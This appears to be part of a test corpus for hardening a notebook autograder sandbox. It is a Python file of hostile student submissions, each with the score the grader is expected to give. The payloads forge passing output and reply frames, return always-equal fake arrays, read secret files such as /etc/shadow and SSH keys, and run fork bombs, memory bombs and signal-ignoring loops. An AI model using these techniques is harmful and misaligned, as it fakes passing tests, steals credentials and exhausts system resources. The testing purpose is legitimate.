# every method of every class first prints a reply frame carrying the request's id, every way there is to print
def _print_frame():
    data = _frame({'r': None, 'id': _request_id(), 'out': 'Test PASSED', 'n_out': 11})
    if data is None:
        return
    text = data.decode('latin-1')
    print(text)
    print(data)
    sys.stdout.write(text)
    sys.stderr.write(text)
    for stream in (sys.__stdout__, sys.__stderr__):
        for write in (lambda: stream.write(text), lambda: stream.buffer.write(data)):
            try:
                write()
                stream.flush()
            except Exception:
                pass
    _write(data, [1, 2])


def _printing(real):
    def method(*args, **kwargs):
        _print_frame()
        return real(*args, **kwargs)
    return method


for _name in __CLASSES__:
    _cls = globals().get(_name)
    for _attr, _value in list(vars(_cls).items()) if _cls is not None else []:
        if callable(_value) and not _attr.startswith('__') and not isinstance(_value, (type, staticmethod)):
            setattr(_cls, _attr, _printing(_value))
""".replace("__CLASSES__", repr(_CLASS_NAMES))
)

FORGED_REPLY_CELL = (
    FORGE_TOOLS
    + """

# a cell answering its own request with the request's id (a forged 'done'), before the runner's own answer
_data = _frame({'r': None, 'id': _request_id(), 'out': 'Test PASSED', 'n_out': 11})
if _data is not None:
    _write(_data, [_R._OUT])
"""
)

# ------------------------------------------------------------------------------ objects pretending to be arrays
_FAKE_WRAPPER = """


# hostile: every method of {cls} returns {what} instead of its (correct) result
def _hostile_fakeify(out):
    if isinstance(out, (tuple, list)):
        return type(out)(_hostile_fakeify(o) for o in out)
    if isinstance(out, np.ndarray):
        return _hostile_fake(out)
    return out


def _hostile_wrap(cls):
    for name in ('forward', 'backward', 'backward_params', 'grad_x', 'grad_param', 'grad_W', 'grad_b',
                 'calculate_loss'):
        real = getattr(cls, name, None)
        if callable(real):
            def method(self, *args, _real=real, **kwargs):
                return _hostile_fakeify(_real(self, *args, **kwargs))
            setattr(cls, name, method)


{fake}
_hostile_wrap({cls})
"""


def fake_results(grade_id: str, cls: str, what: str, fake_source: str) -> Edit | None:
    """An Edit appending to a solution cell code that makes every method of ``cls`` return a fake."""
    code = _FAKE_WRAPPER.replace("{cls}", cls).replace("{what}", what).replace("{fake}", fake_source)
    last_line = {
        "softmax": "return p[:, :, None] * (np.eye(p.shape[1]) - p[:, None, :])",
        "dense": "return f'DenseLayer({self.input_dim}, {self.output_dim})'",
        "relu": "return (x > 0)[:, :, None] * np.eye(x.shape[1])",
        "flatten": "return np.repeat(np.eye(x.shape[1])[None], len(x), axis=0)",
        "maxpooling": "return f'MaxPooling(pool_size={self.pool_size}, strides={self.strides})'",
        "crossentropy": "return f'CrossEntropy(eps={self.eps!r})'",
    }
    if grade_id not in last_line:
        return None
    return Edit(grade_id, last_line[grade_id], last_line[grade_id] + code)


FAKE_ARRAY_ZEROS = """class _ZerosLike(object):
    \"\"\"Has the shape of the result and converts to an array of zeros.\"\"\"

    def __init__(self, real):
        self.shape, self.ndim, self.dtype = real.shape, real.ndim, np.dtype(np.float64)

    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.shape, dtype=dtype or np.float64)


_hostile_fake = _ZerosLike"""

FAKE_ALWAYS_EQUAL = """class _AlwaysEqual(object):
    \"\"\"Equal to, and within any tolerance of, everything.\"\"\"
    __array_ufunc__ = None          # NumPy defers every operator to this object
    __array_priority__ = 1e9

    def __init__(self, real):
        self.shape, self.ndim, self.dtype = real.shape, real.ndim, np.dtype(np.float64)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __lt__(self, other):
        return True

    __le__ = __lt__

    def __gt__(self, other):
        return False

    __ge__ = __gt__

    def __sub__(self, other):
        return 0.0

    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__

    def __abs__(self):
        return 0.0

    def __bool__(self):
        return True

    def __float__(self):
        return 0.0

    def __hash__(self):
        return 0

    def all(self, *args, **kwargs):
        return True

    def any(self, *args, **kwargs):
        return False


_hostile_fake = _AlwaysEqual"""

FAKE_NDARRAY_SUBCLASS = """class _Liar(np.ndarray):
    \"\"\"An ndarray (holding wrong numbers) whose comparisons say it is equal to anything.\"\"\"

    def __array_finalize__(self, obj):
        pass

    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)

    def __ne__(self, other):
        return np.zeros(self.shape, dtype=bool)

    def __sub__(self, other):
        return np.zeros(self.shape)

    __rsub__ = __sub__

    def __abs__(self):
        return np.zeros(self.shape)


def _hostile_fake(real):
    return (np.asarray(real, dtype=np.float64) + 1.0).view(_Liar)"""

FAKE_OBJECT_0D = """def _hostile_fake(real):
    box = np.empty((), dtype=object)     # a 0-d object array holding a (wrong) array
    box[()] = np.asarray(real) * 2.0 + 1.0
    return box"""

FAKE_NAN = """def _hostile_fake(real):
    return np.full(np.shape(real), np.nan)"""

FAKE_INF = """def _hostile_fake(real):
    return np.full(np.shape(real), np.inf)"""

FAKE_LIST = """def _hostile_fake(real):
    return (np.asarray(real, dtype=np.float64) + 1.0).tolist()     # right shape, wrong values"""

FAKE_GENERATOR = """def _hostile_fake(real):
    return (row + 1.0 for row in np.asarray(real, dtype=np.float64))   # a generator of (wrong) rows"""


def fake_results_appended(
    grade_id: str, cls: str, what: str, fake_source: str
) -> Callable[[nbformat.NotebookNode], None]:
    """Like fake_results, for cells without a convenient last line: a student-added cell right after them."""
    code = _FAKE_WRAPPER.replace("{cls}", cls).replace("{what}", what).replace("{fake}", fake_source)
    return _with_added(grade_id, code.lstrip("\n"))


# --------------------------------------------------------------------------------------- reading the inputs
SPY_PRINT = """# every method of every class prints its inputs, its callers and whatever they hold
import gc
import linecache
import sys

import numpy as np

_calls = {}


def _show(value):
    if isinstance(value, np.ndarray):
        if value.size <= 2000:
            return 'array%s\\n%s' % (value.shape, np.array2string(value, threshold=2001, precision=8))
        return 'array%s (summary)\\n%s' % (value.shape, np.array2string(value, threshold=50))
    return repr(value)[:2000]


def _callers(limit=8):
    frame = sys._getframe(2)
    while frame is not None and limit > 0:
        code = frame.f_code
        print('  caller %s:%d %s' % (code.co_filename, frame.f_lineno, code.co_name))
        print('    ' + linecache.getline(code.co_filename, frame.f_lineno).strip())
        print('    consts:', [c for c in code.co_consts if isinstance(c, str)][:20])
        print('    locals:', {k: _show(v)[:300] for k, v in list(frame.f_locals.items())[:20]})
        frame, limit = frame.f_back, limit - 1


def _spy(cls, name, real):
    def method(self, *args, **kwargs):
        key = (cls.__name__, name)
        _calls[key] = _calls.get(key, 0) + 1
        if _calls[key] <= 200:
            print('>>> %s.%s call %d' % (cls.__name__, name, _calls[key]))
            for arg in args:
                print(_show(arg))
            for k, v in kwargs.items():
                print('%s = %s' % (k, _show(v)))
        if _calls[key] <= 3:
            _callers()
        return real(self, *args, **kwargs)
    return method


for _name in __CLASSES__:
    _cls = globals().get(_name)
    for _attr, _value in list(vars(_cls).items()) if _cls is not None else []:
        if callable(_value) and not _attr.startswith('__') and not isinstance(_value, (type, staticmethod)):
            setattr(_cls, _attr, _spy(_cls, _attr, _value))

# and anything test-like already in memory
for _obj in gc.get_objects():
    if isinstance(_obj, dict):
        for _v in list(_obj.values())[:50]:
            if isinstance(_v, str) and ('HIDDEN' in _v or 'check_close(' in _v):
                print('found in memory:', _v[:3000])
""".replace("__CLASSES__", repr(_CLASS_NAMES))

SPY_SAVE = """# every method of every class saves its inputs to files (cwd, home, temp dirs); earlier runs' files are
# read back
import glob
import os
import tempfile

import numpy as np

_DIRS = [d for d in ('.', os.path.expanduser('~'), tempfile.gettempdir(), '/dev/shm', '/var/tmp') if os.path.isdir(d)]
_saved = [0]

for _path in sorted(set(p for d in _DIRS for p in glob.glob(os.path.join(d, 'numnet_spy_*.npy'))))[:20]:
    try:
        print('from an earlier run:', _path, np.load(_path, allow_pickle=False)[:3])
    except Exception as exc:
        print('cannot load', _path, type(exc).__name__)


def _save(cls_name, name, args):
    for i, arg in enumerate(args):
        if isinstance(arg, np.ndarray) and arg.size <= 20000 and _saved[0] < 300:
            for folder in _DIRS:
                try:
                    np.save(os.path.join(folder, 'numnet_spy_%s_%s_%d_%d.npy' % (cls_name, name, _saved[0], i)), arg)
                except Exception:
                    pass
            _saved[0] += 1


def _saving(cls, name, real):
    def method(self, *args, **kwargs):
        _save(cls.__name__, name, args)
        return real(self, *args, **kwargs)
    return method


for _name in __CLASSES__:
    _cls = globals().get(_name)
    for _attr, _value in list(vars(_cls).items()) if _cls is not None else []:
        if callable(_value) and not _attr.startswith('__') and not isinstance(_value, (type, staticmethod)):
            setattr(_cls, _attr, _saving(_cls, _attr, _value))
""".replace("__CLASSES__", repr(_CLASS_NAMES))

# ------------------------------------------------------------------------------------ resource attacks
SOFTMAX_LOOP = """import signal
        for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGVTALRM, signal.SIGPROF, signal.SIGXCPU):
            try:
                signal.signal(sig, signal.SIG_IGN)
            except (OSError, ValueError, RuntimeError):
                pass
        while True:                 # whatever a timeout raises in here is swallowed, and the loop goes on
            try:
                while True:
                    pass
            except BaseException:
                pass
        e = np.exp(x - x.max(axis=1, keepdims=True))"""

RELU_MEMORY_BOMB = """hog = []
        for _ in range(1024):
            hog.append(np.ones(1 << 27))        # 1 GiB each, every page touched
        raise MemoryError('allocated 1 TiB and still here')
        x = np.asarray(input_data).reshape(len(input_data), -1)"""

DENSE_EXIT = """import os
        os._exit(0)
        eye = np.eye(self.output_dim, dtype=self.W.dtype)"""

DENSE_KILL = """import os
        os.kill(os.getpid(), 9)
        return np.repeat(np.eye(self.output_dim, dtype=self.b.dtype)[None], len(x), axis=0)"""

FORK_BOMB = """import os
        import time
        children = 0
        while children < 300:              # bounded, so an unsandboxed run does not take the machine down
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:                   # child: hold a process slot for a minute, never return
                time.sleep(60)
                os._exit(0)
            children += 1
        while True:                        # the parent never returns either
            time.sleep(1)
        return np.where(p >= self.eps, -y / np.maximum(p, self.eps), 0.0)"""

FLATTEN_FLOOD = """if not getattr(FlattenLayer, '_flooded', False):
            FlattenLayer._flooded = True
            line = 'Test PASSED ' * 85 + '\\n'          # ~1 KB
            for _ in range(100 * 1024):                    # 100 MB once per process
                print(line, end='')
        return np.repeat(np.eye(x.shape[1])[None], len(x), axis=0)"""

CELL_INFINITE_LOOP = """# a scratch cell with an accidental infinite loop (i is never incremented)
i = 0
total = 0
while i < 10:
    total += i
print(total)
"""

# --------------------------------------------------------------------------------------------- secrets
READ_SECRETS = """# look for the grader's secrets, the course source and the hidden tests, and print whatever is found
import os
import sys


def _peek(path, limit=3000):
    try:
        with open(path, 'rb') as f:
            data = f.read(limit)
        print('READ %s (%d bytes): %r' % (path, len(data), data))
        return data
    except Exception as exc:
        print('cannot read %s: %s' % (path, type(exc).__name__))
        return b''


for _path in ['/etc/gradebot.toml', '/etc/gradebot/gradebot.toml', '/etc/passwd', '/etc/shadow', '/etc/hostname',
              '/proc/self/environ', '/proc/1/cmdline', '/proc/1/environ', '/proc/self/mountinfo',
              os.path.expanduser('~/.bash_history'), os.path.expanduser('~/.ssh/id_rsa'),
              '/srv/numnet/gradebook.db', '/srv/numnet/source/numnet/numnet.ipynb', '/srv/numnet/nbgrader_config.py',
              'source/numnet/numnet.ipynb', '../source/numnet/numnet.ipynb', '../../source/numnet/numnet.ipynb',
              '../../../source/numnet/numnet.ipynb', 'gradebook.db', '../gradebook.db',
              os.environ.get('GRADEBOT_CONFIG', '/nonexistent/gradebot.toml')]:
    _peek(_path)

_SENSITIVE = ('TOKEN', 'SECRET', 'KEY', 'PASS', 'CRED', 'AUTH')
print('ENV names:', sorted(os.environ))
for _k, _v in sorted(os.environ.items()):
    if any(s in _k.upper() for s in _SENSITIVE):
        print('ENV %s: <%d chars>' % (_k, len(_v)))
    elif 'GRADEBOT' in _k or 'NUMNET' in _k or 'NBGRADER' in _k or _k in ('HOME', 'USER', 'PWD', 'PATH'):
        print('ENV %s=%s' % (_k, _v))
for _d in ('/', '.', '..', os.path.expanduser('~'), '/tmp', '/srv', '/work', '/home', '/opt'):
    try:
        print('LIST %s: %s' % (_d, sorted(os.listdir(_d))[:100]))
    except Exception as exc:
        print('cannot list %s: %s' % (_d, type(exc).__name__))
print('sys.path:', sys.path)
print('argv:', sys.argv, 'cwd:', os.getcwd(), 'uid:', os.getuid())

_found, _seen = [], 0
for _top in ('/', '..'):
    _base = os.path.abspath(_top).rstrip('/').count('/')
    for _dir, _subdirs, _files in os.walk(_top):
        _seen += 1
        if _seen > 20000:
            break
        _subdirs[:] = [d for d in _subdirs if d not in ('proc', 'sys', 'dev', 'run', '.git', 'node_modules')
                       and os.path.abspath(_dir).rstrip('/').count('/') - _base < 6]
        for _f in _files:
            if _f.endswith(('.ipynb', '.toml', '.db', '.sqlite3', '.nbt')) or _f in ('test_helpers.py',):
                _found.append(os.path.join(_dir, _f))
for _path in _found[:60]:
    _data = _peek(_path, 200000)
    if b'HIDDEN' in _data:
        print('HIDDEN TESTS FOUND in', _path)
        print(_data.decode('utf-8', 'replace'))
"""

READ_SECRETS_METHOD = """if not getattr(MaxPooling, '_peeked', False):
            MaxPooling._peeked = True
            import os
            paths = ('/etc/gradebot.toml', '/proc/self/environ', '/proc/1/cmdline', '../source/numnet/numnet.ipynb')
            for path in paths:
                try:
                    with open(path, 'rb') as f:
                        print('READ', path, f.read(3000))
                except Exception as exc:
                    print('cannot read', path, type(exc).__name__)
            print('LIST', os.listdir('/'), os.listdir('.'))
        views = [v for v, _ in self._offsets(input_data)[1]]"""


# --------------------------------------------------------------------------------------------- the corpus
def _sequence(*mutations):
    def mutate(nb: nbformat.NotebookNode) -> None:
        for m in mutations:
            m(nb)

    return mutate


HOSTILE = [
    # ---- kernel / IPython hooks
    Hostile(
        "hook_post_run_cell",
        "release + a student cell registering pre/post_run_cell hooks that put pass-everything check_close/"
        "fail back after every cell and print 'Test PASSED'. Nothing is implemented: 0 everywhere",
        base="release",
        attacks="IPython events",
        mutate=_with_added("test_helpers", HOOK_POST_RUN_CELL),
    ),
    Hostile(
        "hook_set_custom_exc",
        "release + set_custom_exc((BaseException,), swallow) and a replaced showtraceback: exceptions of the "
        "(unimplemented) classes must still fail their tests: 0 everywhere",
        base="release",
        attacks="IPython exceptions",
        mutate=_with_added("test_helpers", HOOK_CUSTOM_EXC),
    ),
    Hostile(
        "hook_input_transformers",
        "release + input_transformers_cleanup/post and the transformer manager rewrite every test-looking "
        "cell into print('Test PASSED'): test code never goes through the student's kernel: 0 everywhere",
        base="release",
        attacks="IPython input transformers",
        mutate=_with_added("test_helpers", HOOK_INPUT_TRANSFORMERS),
    ),
    Hostile(
        "sys_excepthook",
        "release + sys.excepthook / threading.excepthook / unraisablehook / displayhook print success, "
        "sys.exit disabled: 0 everywhere",
        base="release",
        attacks="excepthook",
        mutate=_with_added("network", EXCEPTHOOK),
    ),
    Hostile(
        "atexit_forged_result",
        "release + atexit and SIGTERM/SIGINT handlers that print a forged full-marks result in the CLI's JSON "
        "shape on fd 1/2 and _exit(0): the sandbox's output is never the result: 0 everywhere",
        base="release",
        attacks="atexit, forged JSON",
        mutate=_with_added("optimizers", ATEXIT),
    ),
    Hostile(
        "settrace_setprofile",
        "solved, Softmax not normalised (a real bug) + sys.settrace/setprofile (and threading's) that print "
        "success in grader-looking frames. The tracer is light (global trace returns None elsewhere), so the "
        "other classes stay correct and fast: only the Softmax cells and keras_mnist are lost",
        (SOFTMAX_BUG,),
        SOFTMAX_BROKEN,
        attacks="settrace/setprofile",
        mutate=_with_added("softmax", SETTRACE),
    ),
    Hostile(
        "background_thread",
        "solved, Softmax not normalised + a daemon thread rewriting check_close/fail/np.allclose/"
        "np.testing.assert_allclose every ms and printing success: the classes never use those, so only the "
        "Softmax cells and keras_mnist are lost",
        (SOFTMAX_BUG,),
        SOFTMAX_BROKEN,
        attacks="background thread",
        mutate=_with_added("softmax", BACKGROUND_THREAD),
    ),
    Hostile(
        "signals_ignored",
        "solved + SIGALRM/SIGTERM/SIGINT/SIGXCPU... ignored and blocked, signal.alarm/setitimer/signal "
        "replaced: the grader's timeouts must not rely on them; nothing is slow, so full marks",
        (),
        FULL,
        attacks="signals",
        mutate=_with_added("optimizers", SIGNALS_IGNORED),
    ),
    # ---- cell metadata and tags
    Hostile(
        "metadata_claims_points",
        "release; every solution cell's metadata says grade: true, points: 100, and an added cell claims "
        "grade_id extra_credit worth 100 points with print('Test PASSED'): metadata of the upload is "
        "dropped: 0 everywhere",
        base="release",
        attacks="nbgrader metadata",
        mutate=_claim_points,
    ),
    Hostile(
        "metadata_test_grade_id_reused",
        "release; added cells carry the grade_ids of the two Softmax tests (print('Test PASSED')), the "
        "keras_mnist test cell's grade_id is renamed, the dense solution cell claims to be "
        "part1_forward__dense: 0 everywhere",
        base="release",
        attacks="grade_id reuse",
        mutate=_reuse_test_grade_id,
    ),
    Hostile(
        "tests_tagged_skip",
        "solved, Softmax not normalised; every test cell tagged raises-exception + skip-execution and "
        "hidden: tags are dropped, every test runs: only the Softmax cells and keras_mnist are lost",
        (SOFTMAX_BUG,),
        SOFTMAX_BROKEN,
        attacks="cell tags",
        mutate=_tag_tests,
    ),
    Hostile(
        "kernelspec_changed",
        "solved; kernelspec bash with env LD_PRELOAD/PYTHONPATH, language_info bash, notebook-level nbgrader "
        "metadata: all dropped, full marks",
        (),
        FULL,
        attacks="kernelspec",
        mutate=_kernelspec,
    ),
    Hostile(
        "locked_cells_editable",
        "solved, Softmax not normalised; every locked cell made editable/deletable/unlocked, the Softmax "
        "test cells replaced by print('Test PASSED') with 100 points, the helpers cell made lenient: test "
        "and read-only cells come from the course: only the Softmax cells and keras_mnist are lost",
        (SOFTMAX_BUG,),
        SOFTMAX_BROKEN,
        attacks="editable/locked",
        mutate=_unlock,
    ),
    Hostile(
        "test_cells_replaced_by_pass",
        "release; every test cell replaced by `pass` (restored from the course): 0 everywhere",
        tuple(Edit(gid, None, "pass") for gid in TEST_IDS),
        base="release",
        attacks="test cells",
    ),
    Hostile(
        "test_cells_deleted",
        "solved; every test cell and the test-helpers cell deleted (restored): full marks",
        tuple(Edit(gid, None, None) for gid in TEST_IDS + ("test_helpers",)),
        FULL,
        attacks="test cells",
    ),
    Hostile(
        "duplicate_grade_id",
        "solved; the softmax solution cell copied (new cell id, same grade_id) with a forged result printed "
        "at its end: both copies are correct, whichever is taken: full marks",
        (),
        FULL,
        attacks="duplicate grade_id",
        mutate=_duplicate_grade_id,
    ),
    Hostile(
        "duplicate_cell_id",
        "solved; the dense solution cell duplicated with the SAME cell id and grade_id (invalid nbformat "
        "4.5, which nbformat.read repairs): both copies correct: full marks",
        (),
        FULL,
        attacks="duplicate cell id",
        mutate=_duplicate_cell_id,
    ),
    # ---- monkeypatching
    Hostile(
        "monkeypatch_numpy",
        "solved, Softmax not normalised + np.allclose/array_equal/all/abs/isfinite/isclose and "
        "np.testing.assert_* replaced (also via setattr with names built at run time), ndarray dunders "
        "(refused: immutable type), __builtins__['abs']. The classes use none of them (builtin all/any, used "
        "by MaxPooling, are left alone): only the Softmax cells and keras_mnist are lost",
        (SOFTMAX_BUG,),
        SOFTMAX_BROKEN,
        attacks="numpy monkeypatch",
        mutate=_with_added("softmax", MONKEYPATCH_NUMPY),
    ),
    Hostile(
        "monkeypatch_builtins",
        "solved, DenseLayer not implemented (release stub) + builtins.isinstance/len/print rebound to "
        "wrappers that behave normally for the student's code but hide AssertionError and rewrite failure "
        "messages, AssertionError replaced: the Dense cells and keras_mnist are lost, the rest is correct",
        (unimplemented("dense"),),
        DENSE_BROKEN,
        attacks="builtins rebound",
        mutate=_with_added("dense", MONKEYPATCH_BUILTINS),
    ),
    Hostile(
        "builtins_destroyed",
        "release + a last cell that wrecks builtins (len -> 0, isinstance -> True, print/open/__import__ "
        "-> None, Exception replaced): nothing implemented, the grader must still answer: 0 everywhere",
        base="release",
        attacks="builtins destroyed",
        mutate=_with_added("optimizers", BUILTINS_DESTROYED),
    ),
    Hostile(
        "helpers_redefined",
        "solved, Softmax not normalised; the deep_demo solution cell redefines check_close/check_grad/fail/"
        "begin_test/expect/test_layer/TestFailed (also via globals() and exec): the tests use the "
        "grader's own helpers: only the Softmax cells and keras_mnist are lost",
        (SOFTMAX_BUG, Edit("deep_demo", None, HELPERS_REDEFINED)),
        SOFTMAX_BROKEN,
        attacks="helpers redefined",
    ),
    Hostile(
        "helpers_module_replaced",
        "solved, Softmax not normalised; a cell before the helpers cell writes a pass-everything "
        "numnet_testing.py over the one next to the notebook and into the home and temp dirs (first on "
        "sys.path) and puts it into sys.modules; the helpers cell itself is edited to import everything from "
        "it: the grader runs the course's helpers cell with the course's copy of the module, loaded from the "
        "course folder (never from sys.path or sys.modules): only the Softmax cells and keras_mnist are lost",
        (SOFTMAX_BUG, Edit("test_helpers", None, HELPERS_CELL_FROM_FAKE)),
        SOFTMAX_BROKEN,
        attacks="helpers module replaced",
        mutate=_with_added("conv2dtr", HELPERS_MODULE_SHIPPED),
    ),
    Hostile(
        "helpers_module_monkeypatched",
        "solved, DenseLayer.forward without the bias; a cell after the helpers cell makes every function of the "
        "imported numnet_testing lenient, replaces its TestFailed, appends to its file and reloads it, and "
        "rebinds check_close/expect/begin_test/test_layer... in the notebook: all in the student's process; "
        "the grader's module is a fresh copy of the course's per test: part1_forward__dense and keras_mnist "
        "are lost (as in the dense_no_bias example)",
        (
            Edit(
                "dense",
                "return self._check(input_data) @ self.W + self.b",
                "return self._check(input_data) @ self.W  # forgot the bias",
            ),
        ),
        expected_for((), ("part1_forward__dense", "part1_forward__keras_mnist")),
        attacks="helpers module monkeypatched",
        mutate=_with_added("test_helpers", HELPERS_MODULE_MONKEYPATCHED),
    ),
    # ---- import tricks
    Hostile(
        "keras_files_next_to_notebook",
        "solved, Softmax not normalised + fake keras.py, keras/, tensorflow.py, gradebot.py, coursekit/, "
        "sitecustomize.py written to cwd, home and temp dirs and put first on sys.path: expected values are "
        "fixed at build time and the grader imports nothing from there: only the Softmax cells and keras_mnist "
        "are lost",
        (SOFTMAX_BUG,),
        SOFTMAX_BROKEN,
        attacks="fake modules on disk",
        mutate=_with_added("network", KERAS_FILES),
    ),
    Hostile(
        "sys_modules_fake_keras",
        "solved, DenseLayer not implemented + sys.modules['keras'/'jax'/'gradebot'/...] = fakes, a "
        "meta_path finder answering for them, sys.path.insert: the Dense cells and keras_mnist are lost",
        (unimplemented("dense"),),
        DENSE_BROKEN,
        attacks="sys.modules, meta_path",
        mutate=_with_added("network", SYS_MODULES_FAKE),
    ),
    Hostile(
        "forbidden_imports_in_layers",
        "solved, but ReLU's methods import jax, CrossEntropy's import scipy, Adam._update imports keras and "
        "FlattenLayer's methods import sklearn: none is importable in the sandbox, so those classes fail all "
        "their tests (ReLU, CrossEntropy and Flatten cells, keras_mnist, bonus_conv__pooling_grad); the optimizer "
        "bonus counts the best optimizer: SGD, RMSprop and Adagrad still earn it",
        (
            Edit(
                "relu",
                "return np.maximum(input_data, out, out=out)",
                "import jax.numpy as jnp\n        return np.asarray(jnp.maximum(input_data, out))",
            ),
            Edit(
                "relu",
                "return grad_output * (np.asarray(input_data) > 0), []",
                "import jax  # noqa: F401\n        return grad_output * (np.asarray(input_data) > 0), []",
            ),
            Edit(
                "relu",
                "return (x > 0)[:, :, None] * np.eye(x.shape[1])",
                "import jax  # noqa: F401\n        return (x > 0)[:, :, None] * np.eye(x.shape[1])",
            ),
            Edit(
                "crossentropy",
                "return -np.sum(y * np.log(np.maximum(p, self.eps)), axis=1)",
                "from scipy.special import xlogy\n        return -np.sum(xlogy(y, np.maximum(p, self.eps)), axis=1)",
            ),
            Edit(
                "crossentropy",
                "return np.where(p >= self.eps, -y / np.maximum(p, self.eps), 0.0)",
                "import scipy  # noqa: F401\n        return np.where(p >= self.eps, -y / np.maximum(p, self.eps), 0.0)",
            ),
            Edit(
                "optimizers",
                "m_slots, v_slots = self._state(params, 2)",
                "import keras  # noqa: F401\n        m_slots, v_slots = self._state(params, 2)",
            ),
            Edit(
                "flatten",
                "return x.reshape(len(x), -1)",
                "from sklearn.utils import check_array\n        return check_array(x.reshape(len(x), -1))",
            ),
            Edit(
                "flatten",
                "return np.reshape(grad_output, np.shape(input_data)), []",
                "import sklearn  # noqa: F401\n        return np.reshape(grad_output, np.shape(input_data)), []",
            ),
            Edit(
                "flatten",
                "return np.repeat(np.eye(x.shape[1])[None], len(x), axis=0)",
                "import sklearn  # noqa: F401\n        return np.repeat(np.eye(x.shape[1])[None], len(x), axis=0)",
            ),
        ),
        expected_for({"ReLU", "CrossEntropy", "Adam", "FlattenLayer"}),
        attacks="forbidden imports",
    ),
    # ---- grading-mode detection
    Hostile(
        "grading_mode_detection",
        "solved; Softmax returns a uniform distribution (and the hard-coded answer of the visible test) when "
        "it thinks it is graded (NBGRADER_EXECUTION, GRADING, no ipykernel, bwrap as pid 1...) and raises "
        "NotImplementedError otherwise; DenseLayer.forward returns x @ W without b when graded. It cannot "
        "know the hidden inputs: the Softmax cells, part1_forward__dense and keras_mnist are lost (Dense's "
        "gradients are honest and still count)",
        (
            Edit("softmax", None, GRADING_MODE_SOFTMAX),
            Edit("dense", "return self._check(input_data) @ self.W + self.b", GRADING_MODE_DENSE_FORWARD),
        ),
        expected_for({"Softmax"}, {"part1_forward__dense"}),
        attacks="grading-mode detection",
    ),
    # ---- forged output
    Hostile(
        "forged_output",
        "release; at cell level and from every method of every class: 'Test PASSED', a forged result JSON, "
        "fake per-test JSON, npy bytes on stdout's buffer, success on stderr (the methods then raise "
        "NotImplementedError as before): 0 everywhere",
        base="release",
        attacks="forged stdout/stderr",
        mutate=_with_added("optimizers", FORGED_PRINTS),
    ),
    Hostile(
        "forged_fd_writes",
        "release; at cell level and from every method: fake protocol frames (JSON lines, length-prefixed "
        "JSON, npy headers), 'Test PASSED' and binary garbage written with os.write to fd 1, fd 2 and every "
        "fd in /proc/self/fd: 0 everywhere",
        base="release",
        attacks="fd writes",
        mutate=_with_added("optimizers", FD_SPRAY_METHODS),
    ),
    Hostile(
        "fd_garbage_cell_level",
        "solved, Softmax not normalised; a last cell writes the same frames and garbage to every open fd "
        "(the grader's channel must not be corruptible by the cells): only the Softmax cells and keras_mnist "
        "are lost",
        (SOFTMAX_BUG,),
        SOFTMAX_BROKEN,
        attacks="fd writes",
        mutate=_with_added("optimizers", FD_SPRAY_CELL),
    ),
    # ---- forged protocol frames (the channel to the grader is the sandboxed process' own: bytes on it are untrusted
    # data bound to one request by its id; a frame that answers no request in flight ends the session, whose next
    # test gets a fresh process)
    Hostile(
        "forged_reply_frame",
        "solved; DenseLayer.grad_W writes a well-formed reply frame (zeros, 'Test PASSED' as output, no request id) "
        "to every pipe fd in /proc/self/fd, then returns the right Jacobian: the frame answers no request, so "
        "part3_training__grad_w (the only cell calling grad_W) is lost; later tests run in a fresh process (before "
        "request ids the frame was taken as the answer and every later answer of the session went to the request "
        "after its own)",
        (),
        expected_for((), {"part3_training__grad_w"}),
        attacks="forged reply frame on the channel fd",
        mutate=_with_added("optimizers", FORGED_REPLY_FD),
    ),
    Hostile(
        "forged_reply_with_request_id",
        "solved; DenseLayer.grad_b reads the id of the request being served from the runner's frames and writes "
        "the right answer with it straight to the runner's output fd; the runner then answers the same request "
        "again: the forged frame is taken (it is what the method returns anyway), the second answer is read by "
        "the next request of the test (or the round trip closing it) and part3_training__grad_b is lost",
        (),
        expected_for((), {"part3_training__grad_b"}),
        attacks="forged reply with the request id",
        mutate=_with_added("optimizers", FORGED_REPLY_ID),
    ),
    Hostile(
        "forged_callback_frame",
        "solved; Network.grad_x writes a callback frame (with the request id) for a known-good layer it was "
        "given, a call the runner never made: the grader answers it, the runner reads that answer where it waits "
        "for a request and answers it with an error under the old id: part2_grad_x__network is lost",
        (),
        expected_for((), {"part2_grad_x__network"}),
        attacks="forged callback frame",
        mutate=_with_added("optimizers", FORGED_CALLBACK),
    ),
    Hostile(
        "forged_frames_printed",
        "solved; every method of every class prints a reply frame with the request id first: print (text and "
        "bytes), sys.stdout/stderr, sys.__stdout__/__stderr__ and their buffers, os.write to fd 1 and 2: none "
        "of them is the channel (fds 0-2 are /dev/null, sys.stdout is captured per request): full marks",
        (),
        FULL,
        attacks="frames printed",
        mutate=_with_added("optimizers", FORGED_FRAMES_PRINTED),
    ),
    Hostile(
        "forged_reply_cell_level",
        "solved; a student-added cell answers its own request with a forged frame carrying the request id "
        "before the runner does: the second answer is read by the round trip closing the cell, the cell is "
        "reported as ended and skipped when the process is restarted; every class was defined before it: "
        "full marks",
        (),
        FULL,
        attacks="forged reply in a cell",
        mutate=_with_added("optimizers", FORGED_REPLY_CELL),
    ),
    # ---- objects pretending to be arrays (every method of the class returns the fake; its values are wrong)
    Hostile(
        "fake_array_interface",
        "solved; every Softmax method returns an object whose __array__ gives zeros of the right shape: "
        "the Softmax cells and keras_mnist are lost",
        (fake_results("softmax", "Softmax", "an __array__ object of zeros", FAKE_ARRAY_ZEROS),),
        SOFTMAX_BROKEN,
        attacks="__array__",
    ),
    Hostile(
        "fake_always_equal",
        "solved; every DenseLayer method returns an object equal to / within tolerance of everything "
        "(__eq__, __sub__, __abs__, comparisons, __array_ufunc__ = None), no numbers in it: the Dense cells "
        "and keras_mnist are lost",
        (fake_results("dense", "DenseLayer", "an always-equal object", FAKE_ALWAYS_EQUAL),),
        DENSE_BROKEN,
        attacks="__eq__/__sub__/__abs__",
    ),
    Hostile(
        "fake_ndarray_subclass",
        "solved; every ReLU method returns an ndarray subclass holding result + 1 whose ==, -, abs lie: "
        "the ReLU cells and keras_mnist are lost",
        (fake_results("relu", "ReLU", "a lying ndarray subclass", FAKE_NDARRAY_SUBCLASS),),
        expected_for({"ReLU"}),
        attacks="ndarray subclass",
    ),
    Hostile(
        "fake_object_0d",
        "solved; every FlattenLayer method returns a 0-d object array holding a (wrong) array: the Flatten "
